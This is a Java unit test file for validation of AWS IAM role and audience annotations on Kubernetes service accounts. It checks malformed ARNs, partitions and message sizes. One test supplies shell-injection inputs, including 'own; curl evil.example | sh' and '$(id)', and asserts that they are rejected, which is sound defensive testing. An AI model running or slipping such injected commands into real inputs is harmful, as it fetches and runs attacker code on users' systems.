package dev.lambdaconfig.identity.account;

import static java.util.Objects.requireNonNull;
import static org.assertj.core.api.Assertions.assertThat;

import dev.lambdaconfig.identity.account.ServiceAccounts.ServiceAccount;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The annotations of a ServiceAccount: a role and an audience, or what is wrong with them. */
final class RoleAnnotationsTest {

  private static final String ROLE = "arn:aws:iam::123456789012:role/path/writer";

  @Test
  void theAudienceIsThatOfStsUnlessAnotherIsNamed() {
    assertThat(read(Map.of(RoleAnnotations.ROLE_ARN, ROLE)).annotations())
        .isEqualTo(new RoleAnnotations("uid", ROLE, "sts.amazonaws.com"));
    assertThat(
            read(Map.of(RoleAnnotations.ROLE_ARN, ROLE, RoleAnnotations.AUDIENCE, "own"))
                .annotations())
        .isEqualTo(new RoleAnnotations("uid", ROLE, "own"));
  }

  @Test
  void withoutARoleTheCommandThatAddsItIsTold() {
    Problem problem = requireNonNull(read(Map.of()).problem());

    assertThat(problem.reason()).isEqualTo("RoleNotAnnotated");
    assertThat(problem.message())
        .contains(
            "kubectl annotate serviceaccount -n team writer"
                + " eks.amazonaws.com/role-arn=arn:aws:iam::<account>:role/<name>");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "writer",
        "arn:aws:iam::123:role/writer",
        "arn:aws:iam::123456789012:user/writer",
        "arn:aws:iam::123456789012:role/",
        "arn:aws:iam::123456789012:role/a b",
        "arn:aws:iam::123456789012:role/a\nb",
        "arn:aws:sts::123456789012:assumed-role/writer/session"
      })
  void whatIsNoRoleIsRefusedWithoutACall(String value) {
    Problem problem = requireNonNull(read(Map.of(RoleAnnotations.ROLE_ARN, value)).problem());

    assertThat(problem.reason()).isEqualTo("InvalidRole");
    assertThat(problem.message()).doesNotContain("\n").hasSizeLessThan(400);
    assertThat(problem.passing()).isFalse();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "own; curl evil.example | sh",
        "$(id)",
        "`id`",
        "a b",
        "a\nb",
        "a'b",
        "a\"b",
        "a\u0000b",
        "ſts"
      })
  void anAudienceThatMeansSomethingToAShellIsRefusedAndNotRepeated(String audience) {
    Problem problem =
        requireNonNull(
            read(Map.of(RoleAnnotations.ROLE_ARN, ROLE, RoleAnnotations.AUDIENCE, audience))
                .problem());

    assertThat(problem.reason()).isEqualTo("InvalidRole");
    assertThat(problem.message()).doesNotContain(audience);
  }

  @ParameterizedTest
  @ValueSource(strings = {"sts.amazonaws.com", "https://kubernetes.default.svc", "urn:x:y", "own"})
  void namesAndUrlsAreAudiences(String audience) {
    assertThat(
            requireNonNull(
                    read(Map.of(RoleAnnotations.ROLE_ARN, ROLE, RoleAnnotations.AUDIENCE, audience))
                        .annotations())
                .audience())
        .isEqualTo(audience);
  }

  @Test
  void aRoleOfAnotherPartitionIsRefused() {
    Problem problem =
        requireNonNull(
            read(Map.of(RoleAnnotations.ROLE_ARN, ROLE.replace("aws", "aws-cn"))).problem());

    assertThat(problem.message()).contains("partition aws-cn").contains("eu-west-1 is in aws:");
  }

  @Test
  void anAnnotationIsNotCutWithinACharacter() {
    String value = "x".repeat(199) + "\ud83d\ude00";

    assertThat(requireNonNull(read(Map.of(RoleAnnotations.ROLE_ARN, value)).problem()).message())
        .contains("x".repeat(199) + "...");
  }

  @Test
  void hugeAnnotationsMakeNoHugeMessage() {
    assertThat(
            requireNonNull(read(Map.of(RoleAnnotations.ROLE_ARN, "x".repeat(200_000))).problem())
                .message())
        .hasSizeLessThan(1000);
    assertThat(
            requireNonNull(
                    read(Map.of(
                            RoleAnnotations.ROLE_ARN,
                            ROLE,
                            RoleAnnotations.AUDIENCE,
                            "x".repeat(200_000)))
                        .problem())
                .message())
        .hasSizeLessThan(1000);
  }

  private static RoleAnnotations.Reading read(Map<String, String> annotations) {
    return RoleAnnotations.of(
        new ServiceAccount("team", "writer", "uid", annotations, false), "eu-west-1", "aws");
  }
}
